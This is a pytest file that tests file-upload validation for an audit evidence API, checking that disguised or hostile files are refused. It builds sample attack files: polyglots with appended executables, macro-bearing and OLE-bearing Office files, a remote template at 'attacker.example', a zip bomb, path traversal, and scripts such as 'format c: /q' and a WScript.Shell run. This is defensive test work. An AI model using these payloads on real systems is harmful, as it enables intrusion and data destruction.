"""Evidence is what it claims from its first byte to its last: hostile files built here are refused with a 422
naming why and leave nothing behind (no record, no stored object, no temporary file); real files of each kind
are kept. On disk and on a real S3 server, on SQLite and PostgreSQL; downloads are inert attachments."""

from __future__ import annotations

import io
import struct
import tempfile
import zipfile
import zlib
from pathlib import Path

import anyio
import httpx
import openpyxl
import pytest

from tests.support.evidence import evidence_settings, stored_objects
from tests.support.problems import is_problem

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00" + bytes(range(256)) * 8
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + bytes(range(256)) * 8


# --- real files -------------------------------------------------------------------------------------------


def pdf(text: str = "Privacy lead appointed", padding: int = 0) -> bytes:
    """A whole PDF, one page of text, with a correct cross-reference table."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode() + b" " * padding
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pixels = zlib.compress(b"".join(b"\x00" + b"\x1f\x6f\xbf" * 8 for _ in range(8)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))


def jpeg() -> bytes:
    # Enough of a JFIF for type detection: SOI, APP0, then EOI.
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"


# OLE compound files (Word 97-2003): sector markers, and a writer just big enough for a directory of storages.
FREE, END, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _ole_entry(name: str, kind: int, left=NOSTREAM, right=NOSTREAM, child=NOSTREAM, start=END, size=0) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return (encoded.ljust(64, b"\0") + struct.pack("<HBB3I", len(encoded), kind, 1, left, right, child)
            + b"\0" * 16 + struct.pack("<IQQIQ", 0, 0, 0, start, size))


def word_97(*storages: str) -> bytes:
    """A Word 97-2003 compound file: a 4 KiB WordDocument stream (Word's signature first) and ``storages``."""
    document = b"\xec\xa5\xc1\x00" + b"\x00" * 4092  # 4 KiB: in whole sectors, not the mini stream
    sectors = len(document) // 512  # sectors 0-7; then the directory, then the one FAT sector
    entries = [_ole_entry("Root Entry", 5, child=1),
               _ole_entry("WordDocument", 2, left=2 if storages else NOSTREAM, start=0, size=len(document))]
    for i, name in enumerate(storages):
        entries.append(_ole_entry(name, 1, left=3 + i if i + 1 < len(storages) else NOSTREAM))
    directory = b"".join(entries).ljust(512 * ((len(entries) + 3) // 4), b"\0")
    dir_sectors = len(directory) // 512
    fat_at = sectors + dir_sectors
    fat = [i + 1 for i in range(sectors - 1)] + [END]
    fat += [sectors + i + 1 for i in range(dir_sectors - 1)] + [END] + [FATSECT]
    fat_sector = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, 1, sectors, 0, 4096,
                            END, 0, END, 0)
              + struct.pack("<109I", fat_at, *([FREE] * 108)))
    return header + document + directory + fat_sector


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{extra}'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    '<w:t>Te Whatu Ora privacy policy, adopted by the board</w:t></w:r></w:p></w:body></w:document>'
)


def docx(*extra: tuple[str, bytes],
         main: str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
         extra_types: str = "") -> bytes:
    """A minimal Word document as Word lays it out, plus any ``extra`` parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main, extra=extra_types))
        package.writestr("_rels/.rels", ROOT_RELS)
        package.writestr("word/document.xml", DOCUMENT)
        for name, content in extra:
            package.writestr(name, content)
    return out.getvalue()


def odt(*extra: tuple[str, bytes]) -> bytes:
    """A minimal OpenDocument text: its mimetype first and stored, as the format requires."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), ODT, compress_type=zipfile.ZIP_STORED)
        package.writestr("content.xml", '<office:document-content xmlns:office="urn:oasis:names:tc:'
                                        'opendocument:xmlns:office:1.0"/>')
        package.writestr("META-INF/manifest.xml", '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                                                  'opendocument:xmlns:manifest:1.0"/>')
        for name, content in extra:
            package.writestr(name, content)
    return out.getvalue()


def xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Kaimahi", "Completed"])
    workbook.active.append(["Ngā Hine", "2025-03-01"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def corrupted(package: bytes, part: str) -> bytes:
    """``package`` with the first compressed bytes of ``part`` overwritten."""
    info = zipfile.ZipFile(io.BytesIO(package)).getinfo(part)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    return package[:start] + b"\xff" * 8 + package[start + 8:]


def zip_with(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


# --- fixtures ---------------------------------------------------------------------------------------------


@pytest.fixture(params=["disk", "s3"])
def settings(request, database, tmp_path):
    return evidence_settings(request, database, tmp_path, max_upload_mb=4)


@pytest.fixture
def spool_dir(tmp_path, monkeypatch) -> Path:
    """Where the checks' temporary files go, to see that none is left."""
    folder = tmp_path / "spool"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def upload(api, aid, content: bytes, filename: str):
    return api.post(f"/api/v1/assessments/{aid}/evidence", data={"question_id": "has-lead"},
                    files={"file": (filename, content, "application/octet-stream")})


# --- what is kept -----------------------------------------------------------------------------------------

LEGITIMATE = [
    pytest.param(pdf(), "appointment.pdf", "application/pdf", id="pdf"),
    pytest.param(pdf(padding=300_000), "long.pdf", "application/pdf", id="pdf-past-the-first-chunk"),
    pytest.param(png(), "photo.png", "image/png", id="png"),
    pytest.param(jpeg(), "photo.jpg", "image/jpeg", id="jpeg"),
    pytest.param(docx(), "policy.docx", DOCX, id="docx"),
    pytest.param(docx(("word/media/image1.png", png())), "policy.docx", DOCX, id="docx-with-image"),
    pytest.param(xlsx(), "register.xlsx", XLSX, id="xlsx-from-openpyxl"),
    pytest.param(word_97(), "policy.doc", "application/msword", id="word-97"),
    pytest.param(odt(("Pictures/logo.png", png())), "policy.odt", ODT, id="odt"),
    pytest.param("kaimahi,completed\nNgā Hine,2025-03-01\n".encode() * 2000, "training.csv", "text/csv",
                 id="utf8-csv-with-macrons"),
    pytest.param("name\tnote\r\nRen\u00e9e,caf\u00e9 \u201cquoted\u201d\f\r\n".encode("cp1252") * 1000,
                 "notes.txt", "text/plain", id="windows-1252-text"),
]


@pytest.mark.parametrize("content, filename, content_type", LEGITIMATE)
def test_real_files_are_kept_whole(world, aid, settings, spool_dir, content, filename, content_type):
    r = upload(world.provider_user, aid, content, filename)
    assert r.status_code == 201, r.text
    assert r.json()["content_type"] == content_type
    assert r.json()["filename"] == filename
    assert r.json()["size"] == len(content)
    assert list(spool_dir.iterdir()) == []


# --- what is refused --------------------------------------------------------------------------------------

HOSTILE = [
    pytest.param(pdf() + zip_with("setup.exe", PROGRAM), "policy.pdf", "%%EOF", id="pdf-with-zip-appended"),
    pytest.param(pdf() + zip_with("setup.exe", PROGRAM) + b"\n%%EOF\n", "policy.pdf", "zip archive is appended",
                 id="pdf-with-zip-then-eof"),
    pytest.param(pdf() + PROGRAM, "policy.pdf", "%%EOF", id="pdf-with-program-appended"),
    pytest.param(b"#!/bin/sh\n" + b"echo 'checking the policy'\n" * 320 + ELF, "check.txt", "control character",
                 id="shell-script-then-elf"),
    pytest.param(b"date,event\n" * 1000 + b"2025-03-01,ok\x00\n", "events.csv", "control character",
                 id="csv-with-nul-past-the-first-chunk"),
    pytest.param(b"notes " * 2000 + b"\x1b[2J cleared", "notes.txt", "U+001B", id="text-with-escape"),
    pytest.param("Ngā Hine\n".encode() * 1000 + "Renée\n".encode("cp1252"), "names.csv",
                 "neither UTF-8 nor Windows-1252", id="utf8-then-cp1252"),
    pytest.param("ひらがなのテキスト\n".encode("shift_jis") * 50, "notes.txt", "Windows-1252",
                 id="shift-jis"),
    pytest.param(docx(("word/embeddings/setup.exe", PROGRAM)), "policy.docx", "a program", id="docx-with-exe"),
    pytest.param(docx(("word/media/image2.png", PROGRAM)), "policy.docx", "a program",
                 id="docx-with-exe-named-as-image"),
    pytest.param(docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504),
                      extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
                 "policy.docx", "macros", id="docx-with-vba-project"),
    pytest.param(docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "policy.docx",
                 "declares macros", id="docm-named-docx"),
    pytest.param(docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)),
                 "policy.docx", "embedded object", id="docx-with-ole-object"),
    pytest.param(docx(("word/_rels/settings.xml.rels",
                       b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                       b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                       b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
                       b'TargetMode="External"/></Relationships>')),
                 "policy.docx", "from elsewhere", id="docx-with-remote-template"),
    pytest.param(docx(("word/media/huge.xml", b"\x00" * (64 * 1024 * 1024))), "policy.docx", "zip bomb",
                 id="docx-zip-bomb"),
    pytest.param(docx(("../../evil.xml", b"<x/>")), "policy.docx", "unsafe name", id="docx-path-traversal"),
    pytest.param(docx() + PROGRAM, "policy.docx", "after the end", id="docx-with-program-appended"),
    pytest.param(docx() + docx(("word/embeddings/setup.exe", PROGRAM)), "policy.docx", "before the document",
                 id="docx-with-second-package-appended"),
    pytest.param(docx()[:-200], "policy.docx", "not a readable Office document", id="docx-truncated"),
    pytest.param(corrupted(docx(), "word/document.xml"), "policy.docx", "not a readable Office document",
                 id="docx-with-corrupt-part"),
    pytest.param(odt(("Basic/Standard/Module1.xml", b"<script:module/>")), "policy.odt", "macros",
                 id="odt-with-basic-macros"),
    pytest.param(word_97("Macros"), "policy.doc", "macros", id="word-97-with-macros"),
    pytest.param(word_97("ObjectPool"), "policy.doc", "embedded object", id="word-97-with-embedded-object"),
    pytest.param(word_97()[:3000], "policy.doc", "not a readable Office document", id="word-97-truncated"),
    pytest.param(word_97() + zip_with("setup.exe", PROGRAM), "policy.doc", "zip archive is appended",
                 id="word-97-with-zip-appended"),
    pytest.param(png() + zip_with("setup.exe", PROGRAM), "photo.png", "IEND", id="png-with-zip-appended"),
    pytest.param(jpeg() + zip_with("setup.exe", PROGRAM), "photo.jpg", "zip archive is appended",
                 id="jpeg-with-zip-appended"),
]


@pytest.mark.parametrize("content, filename, reason", HOSTILE)
def test_files_that_are_not_what_they_claim_are_refused_and_leave_nothing(world, aid, settings, spool_dir, content,
                                                                          filename, reason):
    before = stored_objects(settings)
    r = upload(world.provider_user, aid, content, filename)
    assert r.status_code == 422, r.text
    assert is_problem(r)
    problem = r.json()
    assert problem["errors"][0]["field"] == "file"
    assert reason in problem["errors"][0]["message"], problem
    assert filename in problem["detail"]
    assert stored_objects(settings) == before
    assert list(spool_dir.iterdir()) == []
    assert world.provider_user.get(f"/api/v1/assessments/{aid}").json()["evidence"] == []
    if settings.is_s3:
        from partner_audit.storage import S3Store

        store = S3Store(settings)
        assert store.client.list_multipart_uploads(Bucket=store.bucket).get("Uploads", []) == []


# --- downloads --------------------------------------------------------------------------------------------


def test_downloads_are_inert_attachments(world, aid, settings):
    html = b"<html><script>fetch('/api/v1/me')</script></html>\n"
    evidence = upload(world.provider_user, aid, html, "page.html").json()
    # Text: saved under a name that opens as text, not as a page (nor, for run.bat, as a program).
    assert evidence["content_type"] == "text/plain" and evidence["filename"] == "page.html.txt"
    r = world.auditor.get(f"/api/v1/evidence/{evidence['id']}/download", follow_redirects=False)
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert r.headers["content-disposition"] == 'attachment; filename="page.html.txt"'
    if settings.is_s3:  # the presigned link serves the checked type, as an attachment, from the bucket's origin
        assert r.status_code == 307
        r = httpx.get(r.headers["location"])
        assert r.headers["content-disposition"] == 'attachment; filename="page.html.txt"'
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/plain")
    assert r.content == html


@pytest.mark.parametrize("filename, content, kept_as", [
    ("run.bat", b"@echo off\r\nformat c: /q\r\n", "run.bat.txt"),
    ("invoice.js", b"new ActiveXObject('WScript.Shell').Run('calc')\n", "invoice.js.txt"),
    ("README", b"plain notes\n", "README.txt"),
    ("scan.pdf", png(), "scan.pdf.png"),
    ("Scan.JPEG", jpeg(), "Scan.JPEG"),
])
def test_a_name_that_does_not_fit_the_file_gets_the_right_extension(world, aid, filename, content, kept_as):
    r = upload(world.provider_user, aid, content, filename)
    assert r.status_code == 201, r.text
    assert r.json()["filename"] == kept_as


# --- text, however it is cut into chunks ------------------------------------------------------------------


@pytest.mark.parametrize("content, problem", [
    pytest.param("Ngā Hine, Renée, café, “quotes” – dashes\t\f\r\n".encode(), None, id="utf8"),
    pytest.param("Renée “quoted” café\r\n".encode("cp1252"), None, id="cp1252"),
    pytest.param(b"ok\n" * 10 + b"bad\x00", r"byte 34 is a control character \(U\+0000\)", id="nul"),
    pytest.param("ā".encode() + b"\xc2\x85", r"byte 3 is a control character \(U\+0085\)", id="c1-in-utf8"),
    pytest.param("Ngā".encode() + "é".encode("cp1252"), "byte 5 is not UTF-8", id="utf8-then-cp1252"),
    pytest.param(b"abc" + "ひらがな".encode("shift_jis"), "byte 4 starts a run", id="shift-jis"),
    pytest.param(b"abc\xe9\x81", "byte 5 is neither UTF-8 nor Windows-1252", id="undefined-in-cp1252"),
    pytest.param("Ngā ā".encode()[:-1], "byte 6 is not UTF-8", id="utf8-cut-short"),
    pytest.param(b"Ng\xc4", None, id="cp1252-high-byte-last"),  # "NgÄ"
])
@pytest.mark.parametrize("chunk", [1, 2, 3, 1000])
def test_text_is_checked_the_same_however_it_arrives(content, problem, chunk):
    from partner_audit.errors import Invalid
    from partner_audit.filecheck import TextCheck

    check = TextCheck("text/plain", "notes.txt")

    async def feed_all() -> None:
        for start in range(0, len(content), chunk):
            await check.feed(content[start:start + chunk])
        await check.finish()

    if problem is None:
        anyio.run(feed_all)
    else:
        with pytest.raises(Invalid, match=problem):
            anyio.run(feed_all)
